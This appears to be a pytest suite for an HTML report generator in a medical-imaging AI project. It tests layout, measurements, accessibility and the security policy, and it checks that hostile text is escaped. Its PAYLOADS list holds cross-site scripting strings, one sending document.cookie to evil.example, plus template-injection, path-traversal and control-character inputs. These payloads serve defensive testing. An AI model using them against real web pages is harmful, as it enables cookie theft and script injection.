"""What a clinician reads in the report, and what hostile text cannot do in it."""

import base64
import hashlib
import re
from dataclasses import replace
from io import BytesIO
from itertools import pairwise
from pathlib import Path

import numpy as np
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from PIL import Image
from report_answers import AFFINE, Page, answer, check, radiograph, scored, segmented, series, without

from attending.consult import NOTICE, Call, Check, Transcript, Turn
from attending.errors import InputError
from attending.experts import ExpertCard, Finding, Record, Segmentation
from attending.imaging import Study, Volume, picture_of
from attending.reporting import write
from attending.reporting.page import passages_of

EVIL = "<script>fetch('http://evil.example/?'+document.cookie)</script>"
PAYLOADS = [
    EVIL,
    '"><img src=x onerror=alert(1)><svg/onload=alert(1)>',
    "![x](http://evil.example/leak?q=secret) [y](javascript:alert(1))",
    "</style></title></textarea><iframe src=javascript:alert(1)>",
    "{{ 7*7 }}{% include '/etc/passwd' %}${7*7}&#x3c;b&#x3e;",
    "\u202etxt.exe\u2066 \u200b\ufeff \x1b[2J\x07\x00\x85\u2028 \ud800 \ue000",
    "../../etc/passwd\\..\\..\\con:|?*",
]


def page(folder, *args, **changes):
    asked = args[0] if args else answer(**changes)
    write(asked, folder)
    found = Page(folder / "report.html")
    assert (found.open, found.crossed) == ([], []), "every tag is closed, in order"
    return found


def poisoned(text):
    """An answer with `text` wherever anyone can put any."""
    scan = series("1.2.3", description=text, body_part=text, sequence=text, date=text, warnings=[text])
    scan.id = text
    labels = np.zeros((40, 36, 20), np.uint8)
    labels[9:20, 9:20, 9:14], labels[2:5, 2:5, 2:5] = 1, 2
    record = Record(text, text, text, {text: text}, {text: text}, 1.0, text, {text: text, "list": [text]})
    facts = {"volume_ml": 3.0, "side": text, "inside": text, "inside_share": 0.5, text: text, "also": text}
    found = Segmentation(Volume(labels, AFFINE), {1: text, 2: text + "2", 3: text})
    finding = Finding("done", text, record, found, {text: facts}, {text: 0.5, "b": 0.25}, warnings=(text,))
    problem = InputError(text, field=text, path="/data/DOE_JANE/x.dcm")
    study = Study(Path("x"), [scan], [problem], {text: 3})
    asked = answer(
        [finding, without("failed", text, text), without("refused", text, text)],
        study=study,
        text=f"Fine. {text} It measures 45 mm.",
        question=text,
        model=text,
        versions={text: text},
        timings={text: 1.0},
        tokens={text: 3},
        warnings=(text,),
        checks=[check(detail=text, expert=text), Check(text, text, text, text, text, text), check(text)],
        status=text,
    )
    cards = (ExpertCard(text, ("CT",), (), text, text, text),)
    more = Turn("user", text, asked.transcript.turns[0].pictures, text, cards, Call(text, {text: text}, text))
    return replace(asked, transcript=Transcript((more, *asked.transcript.turns[1:])))


def structure(found):
    """Tags and attribute names of a page, its values only where they could act."""
    acting = {"src", "href", "style", "action", "content", "http-equiv", "charset", "srcset", "data"}
    return {
        (tag, name, value[:22] if name in acting else "") for tag, attrs in found.tags for name, value in attrs.items()
    } | {(tag, "", "") for tag, _ in found.tags}


def test_question_and_answer_come_first_then_findings_and_the_notice_is_at_both_ends(tmp_path):
    text = page(tmp_path, checks=[check()]).text
    order = [
        NOTICE, "Question Is there a lesion?", "Answer It measures 45 mm.", "What the model was shown",
        "Findings of the experts VISTA3D", "Experts without a result", "What was examined, and what was not",
        "How this answer came about", "Conversation", NOTICE,
    ]  # fmt: skip
    places = []
    for part in order:
        places.append(text.index(part, places[-1] + 1 if places else 0))
    assert text.endswith(NOTICE)


def test_a_flagged_claim_is_marked_and_told_in_words_right_after_its_sentence(tmp_path):
    found = page(tmp_path, checks=[check(expert="VISTA3D"), check("The liver is large.", "supported")])
    assert "It measures 45 mm. Contradicted VISTA3D measured 17 mm. (VISTA3D) The liver is large." in found.text
    assert len(found.all("mark")) == 1
    assert "1 supported, 1 contradicted, 0 not supported" in found.text


def test_a_flagged_sentence_that_the_text_does_not_hold_is_told_all_the_same(tmp_path):
    found = page(tmp_path, checks=[check("It is on the left.", "unsupported", "No finding speaks of a side.")])
    assert "It is on the left. Not supported No finding speaks of a side." in found.text


def test_white_space_may_differ_between_a_sentence_and_the_text(tmp_path):
    found = page(tmp_path, text="A mass.\nIt measures\n  45 mm. End.", checks=[check()])
    assert "45 mm. Contradicted VISTA3D measured 17 mm. End." in found.text


@given(st.text("ab. \n", max_size=60), st.lists(st.text("ab. \n", max_size=8), max_size=6))
@settings(max_examples=200, deadline=None)
def test_passages_are_the_text_and_no_flag_is_lost(text, sentences):
    flags = [check(sentence, detail=str(number)) for number, sentence in enumerate(sentences)]
    passages, astray = passages_of(text, flags)
    assert "".join(passage.text for passage in passages) == text
    assert sorted(flag.detail for flag in [*astray, *(f for p in passages for f in p.flags)]) == sorted(
        flag.detail for flag in flags
    )


def test_refused_and_failed_experts_are_told_apart_from_findings_with_the_reason(tmp_path):
    failed = without("failed", "TOTAL", "TOTAL: took longer than its 600 seconds")
    found = page(tmp_path, answer([segmented(), without(), failed]))
    before, after = found.text.split("Experts without a result")
    assert "BRATS examines MR" not in before
    assert "Nothing can be concluded from these" in after
    assert re.search(r"Refused BRATS task: total BRATS examines MR; the study holds: CT", after)
    assert re.search(r"Failed TOTAL task: total TOTAL: took longer than its 600 seconds", after)
    assert len(found.all("article")) == 1


def test_an_answer_without_any_result_says_so(tmp_path):
    found = page(tmp_path, answer([without()]))
    assert "No expert examined the study: this answer rests on the model's own reading" in found.text
    assert "Findings of the experts None." in found.text


@pytest.mark.parametrize(("status", "words"), [("rounds", "rounds were spent"), ("cancelled", "was cancelled")])
def test_an_answer_that_was_cut_short_says_so(tmp_path, status, words):
    assert words in page(tmp_path, status=status).text


def test_measurements_have_units_and_lesions_come_first(tmp_path):
    text = page(tmp_path).text
    head = "structure volume, mL parts axial diameters, mm mean ± SD, HU side in"
    assert f"{head} hepatic tumor 1.73 1 17.0 x 16.5 48.2 ± 9.6 right liver (100%) liver 1234 1" in text


def test_intensities_of_mri_are_in_arbitrary_units(tmp_path):
    study = Study(Path("x"), [series(modality="MR")])
    assert "mean ± SD, arbitrary units" in page(tmp_path, answer([segmented()], study=study)).text


def test_scores_are_bars_with_the_probability_and_the_spread(tmp_path):
    found = page(tmp_path, answer([scored()], study=Study(Path("x"), [radiograph()])))
    assert "Effusion 0.91 0.80 to 0.97 Mass 0.08" in found.text
    bars = [attrs["width"] for attrs in found.all("rect") if attrs["class"] == "fill"]
    assert bars == ["91.0", "8.0"]


def test_findings_show_the_plain_slice_beside_the_overlay_with_patient_sides_and_words(tmp_path):
    found = page(tmp_path)
    pictures = [attrs["alt"] for attrs in found.all("img")]
    assert pictures[1].startswith("Without overlay: abdomen, axial slice")
    assert pictures[2].startswith("With overlay of what was found: abdomen, axial slice")
    assert pictures[0] == f"Picture shown to the model: {pictures[0].split(': ')[1]}"
    assert all(attrs["alt"] and attrs["src"].startswith("data:image/jpeg;base64,") for attrs in found.all("img"))
    sides = re.findall(r'class="side s\d"[^>]*>(.)<', found.source)
    assert "".join(sides).startswith("RLAP" * 3)
    assert {attrs.get("fill") for attrs in found.all("rect")} >= {"#ff0000"}


def test_series_used_and_not_used_files_not_read_and_experts_not_asked(tmp_path):
    unread = InputError("is cut short", path="/data/DOE_JANE/IM7.dcm", field="PixelData")
    study = Study(Path("x"), [series(), series("1.2.4", description="scout")], [unread, unread], {"no image": 4})
    text = page(tmp_path, answer(study=study)).text
    assert "abdomen 1.2.3 CT 40 x 36 x 20 voxels 5 x 5 x 6 mm axes RAS" in text
    assert "1 picture shown to the model examined by VISTA3D" in text
    assert re.search(r"scout 1\.2\.4 .{,60} not used", text)
    assert "2 x PixelData: is cut short" in text
    assert "4 x no image" in text
    assert "Experts offered to the model and not asked: TOTAL." in text
    assert "DOE_JANE" not in text


def test_hashes_seed_versions_times_and_files_can_be_looked_up(tmp_path):
    text = page(tmp_path).text
    for part in ("c0ffee" * 10, "ab" * 32, "seed 7", "attending 0.1", "total 1.5", "2.5 s on cpu", "version 0.5.4"):
        assert part in text
    assert re.search(r"Mask: files-[0-9a-f]{8}/01-vista3d-mask\.nii\.gz", text)


def test_the_conversation_is_there_folded(tmp_path):
    found = page(tmp_path)
    assert "<VISTA3D(hepatic tumor)>" in found.text
    assert "Expert BRATS refused, asked by the model" in found.text
    assert all("open" not in attrs for attrs in found.all("details")[-1:])


def test_what_was_looked_for_and_not_found_is_told(tmp_path):
    assert "Looked for, not found: 1 hepatic vessel" in page(tmp_path).text


def test_no_study_no_pictures_no_findings(tmp_path):
    found = page(tmp_path, answer([], study=None))
    assert "No study: the question was asked without images." in found.text
    assert found.all("img") == []


def test_headings_step_down_one_at_a_time_and_the_language_is_named(tmp_path):
    found = page(tmp_path)
    levels = [int(tag[1]) for tag, _ in found.tags if re.fullmatch(r"h\d", tag)]
    assert levels[0] == 1
    assert levels.count(1) == 1
    assert all(after - before <= 1 for before, after in pairwise(levels))
    assert found.all("html")[0]["lang"] == "en"
    ids = [attrs["id"] for _, attrs in found.tags if "id" in attrs]
    assert len(ids) == len(set(ids))
    assert {attrs["aria-labelledby"] for _, attrs in found.tags if "aria-labelledby" in attrs} <= set(ids)


def test_the_policy_allows_this_style_sheet_and_data_pictures_alone(tmp_path):
    found = page(tmp_path)
    (policy,) = [attrs["content"] for attrs in found.all("meta") if attrs.get("http-equiv")]
    style = re.search(r"<style>(.*)</style>", found.source, re.DOTALL)[1]
    digest = base64.b64encode(hashlib.sha256(style.encode()).digest()).decode()
    assert policy == (
        f"default-src 'none'; img-src data:; style-src 'sha256-{digest}'; base-uri 'none'; form-action 'none'"
    )
    assert found.source.index("Content-Security-Policy") < found.source.index("<title>")
    assert not re.search(r"url\(|@import|https?:", style)


def contrast(one, other):
    """Of two `#rgb` or `#rrggbb` colours, by WCAG 2."""

    def light(color):
        digits = color[1:] if len(color) == 7 else "".join(2 * digit for digit in color[1:])
        parts = [int(digits[i : i + 2], 16) / 255 for i in (0, 2, 4)]
        linear = [part / 12.92 if part <= 0.04045 else ((part + 0.055) / 1.055) ** 2.4 for part in parts]
        return np.dot(linear, (0.2126, 0.7152, 0.0722))

    low, high = sorted((light(one), light(other)))
    return (high + 0.05) / (low + 0.05)


def test_text_has_contrast_in_light_dark_and_print(tmp_path):
    source = page(tmp_path).source
    palettes = [
        dict(re.findall(r"--([\w-]+): (#\w+)", block)) for block in re.findall(r":root \{(.*?)\}", source, re.DOTALL)
    ]
    assert len(palettes) == 3
    for colors in palettes:
        for text, ground in [
            *((name, "paper") for name in ("ink", "quiet", "accent", "care")),
            ("ink", "soft"), ("ink", "care-soft"), ("care", "care-soft"),
        ]:  # fmt: skip
            assert contrast(colors[text], colors[ground]) >= 4.5, (text, ground)


@pytest.mark.parametrize("payload", PAYLOADS)
def test_hostile_text_anywhere_adds_no_tag_no_attribute_and_no_control_character(tmp_path, payload):
    plain = page(tmp_path / "plain", poisoned("harmless"))
    found = page(tmp_path / "evil", poisoned(payload))
    assert structure(found) <= structure(plain)
    assert not [attrs for _, attrs in found.tags for name in attrs if name.startswith("on")]
    assert not {"a", "script", "iframe", "link", "base", "form", "object"} & {tag for tag, _ in found.tags}
    for path in (tmp_path / "evil").rglob("*"):
        assert re.fullmatch(r"[\w.-]+", path.name, re.ASCII)
        if path.suffix in (".html", ".json", ".csv", ".txt"):
            assert not re.search(
                "[\x00-\x08\x0b-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2066-\u2069\ufeff]", path.read_text()
            )
    assert not (tmp_path / "etc").exists()


def test_hostile_text_is_shown_as_it_is(tmp_path):
    found = page(tmp_path, text=EVIL, checks=[])
    assert EVIL in found.text
    assert found.source.count("<script") == 0


def test_a_million_characters_are_cut_and_that_is_told(tmp_path):
    found = page(tmp_path, text="word " * 200_000, question="x" * 1_000_000)
    assert "900000 more characters of the answer are left out" in found.text
    assert "(cut: 900,000 more characters)" in found.text
    assert (tmp_path / "report.html").stat().st_size < 3_000_000


def test_200_findings_make_a_report_that_shows_the_first_and_names_the_pictures_left_out(tmp_path, monkeypatch):
    monkeypatch.setattr("attending.reporting.save._ROOM", 120_000)
    array = np.random.default_rng(0).integers(-200, 300, (40, 36, 20)).astype(np.int16)
    labels = np.zeros(array.shape, np.uint8)
    labels[10:20, 10:20, 5:9] = 1
    one = Segmentation(Volume(labels, AFFINE), {1: "spot"})
    several = [segmented(one, measurements={}, text=f"Finding {n}.") for n in range(200)]
    found = page(tmp_path, answer(several, study=Study(Path("x"), [series(array=array)])))
    assert len(found.all("article")) == 200
    assert len(list(tmp_path.rglob("*mask.nii.gz"))) == 200
    assert sum(len(attrs["src"]) for attrs in found.all("img")) <= 120_000
    first, last = (found.source.split(f'id="finding{number}"')[1].split("</article>")[0] for number in (1, 200))
    assert "<img" in first
    assert "<img" not in last
    assert re.search(r"too large: <code>files-\w+/[\w-]+\.png</code>", last)


def test_pictures_without_room_are_named(tmp_path, monkeypatch):
    monkeypatch.setattr("attending.reporting.save._ROOM", 4)
    found = page(tmp_path)
    assert found.all("img") == []
    for name in re.findall(r"too large: <code>([^<]+)</code>", found.source):
        assert (tmp_path / name).is_file()
    assert "too large" in found.text


def test_a_usual_ct_makes_a_report_under_3_mb(tmp_path):
    array = np.random.default_rng(0).normal(40, 30, (512, 512, 40)).astype(np.int16)
    affine = np.diag([0.7, 0.7, 5.0, 1.0])
    labels = np.zeros(array.shape, np.uint8)
    labels[100:300, 100:300, 10:30], labels[150:190, 150:190, 15:20] = 1, 26
    found = Segmentation(Volume(labels, affine), {1: "liver", 26: "hepatic tumor"})
    asked = answer([segmented(found)] * 2, study=Study(Path("x"), [series(array=array, affine=affine)]))
    shown = page(tmp_path, asked)
    assert 500_000 < (tmp_path / "report.html").stat().st_size < 3_000_000
    assert len(shown.all("img")) == 1 + 2 * 2 * 4
    for attrs in shown.all("img"):
        with Image.open(BytesIO(base64.b64decode(attrs["src"].split(",")[1], validate=True))) as picture:
            picture.load()
            assert (str(picture.width), str(picture.height)) == (attrs["width"], attrs["height"])


def test_130_labels_keep_a_legend_of_names_and_a_table_that_folds(tmp_path):
    labels = np.zeros((40, 36, 20), np.uint8)
    labels[:26, :5, :10] = np.arange(1, 131).reshape(26, 5)[..., None]
    names = {label: f"structure {label}" for label in range(1, 131)}
    found = Segmentation(Volume(labels, AFFINE), names)
    measured = {name: {"volume_ml": float(label)} for label, name in names.items()}
    shown = page(tmp_path, answer([segmented(found, measurements=measured)]))
    swatches = {attrs["fill"] for attrs in shown.all("rect")}
    assert len(swatches) == 130
    assert "115 more structures" in shown.text
    (overlay,) = tmp_path.rglob("01-vista3d-130-structures-axial-*-overlay.png")
    assert overlay.stat().st_size > 0


def test_numbers_that_are_none_do_not_break_the_page(tmp_path):
    strange = segmented(
        measurements={"x": {"volume_ml": float("nan"), "components": None, "intensity": 3, "side": None}}
    )
    found = page(tmp_path, answer([strange, scored({"a": float("nan"), "b": 7.0})]))
    assert [attrs["width"] for attrs in found.all("rect") if attrs.get("class") == "fill"] == ["0.0", "100.0"]


def test_channels_of_a_volume_and_frames_of_a_clip_are_told(tmp_path):
    clip = radiograph(pixels=np.random.default_rng(1).integers(0, 255, (4, 60, 50)).astype(np.uint8))
    clip.shape = (50, 60, 4)
    several = series(channels=3, spacing=None)
    asked = answer([without()], study=Study(Path("x"), [clip, several]))
    shown = replace(asked.transcript.turns[0], pictures=(picture_of(clip.image, 2),))
    asked = replace(asked, transcript=Transcript((shown, *asked.transcript.turns[1:])))
    text = page(tmp_path, asked).text
    assert "50 x 60 pixels 4 frames 0.5 x 0.5 mm" in text
    assert "40 x 36 x 20 voxels 3 channels spacing unknown" in text
    assert "chest, frame 2" in text
